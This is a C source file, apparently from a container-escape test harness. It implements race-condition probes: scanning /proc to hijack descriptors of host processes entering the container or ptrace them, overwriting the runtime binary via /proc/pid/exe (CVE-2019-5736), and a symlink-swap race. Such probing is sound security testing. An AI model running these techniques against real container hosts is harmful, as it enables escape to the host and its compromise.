// Against those who come in: an exec enters the container with the host's descriptors open, and this waits for it.
#include "attack.h"
#include <dirent.h>
#include <sched.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/wait.h>

static int number(const char *name) { return name[strspn(name, "0123456789")] ? 0 : atoi(name); }

// Is the program this process runs one of the container's? Its device tells: all of the container's root has one.
static int foreign(const char *exe, const struct stat *root) {
    struct stat status;
    return !stat(exe, &status) && status.st_dev != root->st_dev;
}

// UNTIL: a file. Looks at every process there is, again and again, until it appears; grabs what it can of those whose program is not the container's.
static enum result ambush(int n, char **a) {
    struct stat root;
    char path[64], target[4096];
    unsigned long looks = 0, processes = 0;
    stat("/bin/busybox", &root);
    int last = 0;
    while (access(a[0], F_OK)) {
        // Pids are given out one after the other: the next ones are known before they are there.
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));) {
            int pid = number(entry->d_name);
            if (!pid || pid == getpid() || pid == 1) continue;
            if (pid != last) { last = pid; processes++; }
            looks++;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int exe = open(path, O_RDONLY | O_CLOEXEC);
            if (exe >= 0) {
                if (foreign(path, &root)) {
                    int again = open(path, O_WRONLY | O_CLOEXEC);
                    if (again >= 0) return succeeded("the program of process %d opens for writing", pid);
                    snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
                    again = open(path, O_WRONLY | O_CLOEXEC);
                    if (again >= 0) return succeeded("the program of process %d opens for writing later", pid);
                }
                close(exe);
            }
            for (int fd = 3; fd < 24; fd++) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
                ssize_t length = readlink(path, target, sizeof target - 1);
                if (length < 0) continue;
                target[length] = 0;
                // The proc folder of busybox' own applets is theirs; a socket or a folder of the shim's is not.
                int got = open(path, O_PATH | O_CLOEXEC);
                snprintf(path, sizeof path, "/proc/%d/exe", pid);
                int theirs = foreign(path, &root);
                if (got >= 0 && theirs) return succeeded("descriptor %d (%s) of process %d", fd, target, pid);
                if (got >= 0) close(got);
            }
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            if (foreign(path, &root) && !ptrace(PTRACE_SEIZE, pid, 0, 0)) return succeeded("process %d is traced while it enters", pid);
        }
        if (proc) closedir(proc);
    }
    return stopped("%lu looks at %lu processes", looks, processes);
}

// The same grip on a program that nobody sealed: a copy of this one, while it runs and after (CVE-2019-5736).
static enum result overwrite_own(int n, char **a) {
    int ready[2];
    char path[64], byte;
    if (system("cp /bin/attack /tmp/victim")) return stopped("no copy");
    if (pipe(ready)) return stopped_by("pipe");
    pid_t child = fork();
    if (child == 0) { execl("/tmp/victim", "victim", "wait", NULL); _exit(1); }
    (void)byte;
    snprintf(path, sizeof path, "/proc/%d/exe", child);
    int held = -1;
    struct stat own, theirs;
    stat("/proc/self/exe", &own);
    for (int i = 0; i < 1000000; i++)
        if (!stat(path, &theirs) && theirs.st_ino != own.st_ino && (held = open(path, O_PATH | O_CLOEXEC)) >= 0) break;
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    for (int i = 0; i < 1000; i++)
        if (open(path, O_WRONLY | O_CLOEXEC) >= 0) return succeeded("the program opens for writing");
    return stopped_by("open");
}

// The first program of this container was executed by the host's shim; what it was before is its parent, which is not to be seen.
static enum result overwrite_first(int n, char **a) {
    char path[64];
    struct stat root;
    stat("/bin/busybox", &root);
    for (int pid = 1; pid < 64; pid++) {
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        if (!foreign(path, &root)) continue;
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        return fd >= 0 ? succeeded("the program of process %d opens for writing", pid) : stopped_by(path);
    }
    return stopped("every program is the container's own");
}

static enum result wait_here(int n, char **a) { pause(); return STOPPED; }

// UNTIL LINK A B: a symlink that is changed for another without end.
static enum result swap(int n, char **a) {
    char other[4096];
    snprintf(other, sizeof other, "%s.new", a[1]);
    unsigned long turns = 0;
    while (access(a[0], F_OK)) {
        unlink(other);
        if (symlink(a[2 + turns++ % 2], other) || rename(other, a[1])) return stopped_by("rename");
    }
    return stopped("%lu turns", turns);
}

const struct attack races[] = {
    { "ambush", ambush }, { "overwrite-own", overwrite_own }, { "overwrite-first", overwrite_first }, { "wait", wait_here }, { "swap", swap }, { 0 } };
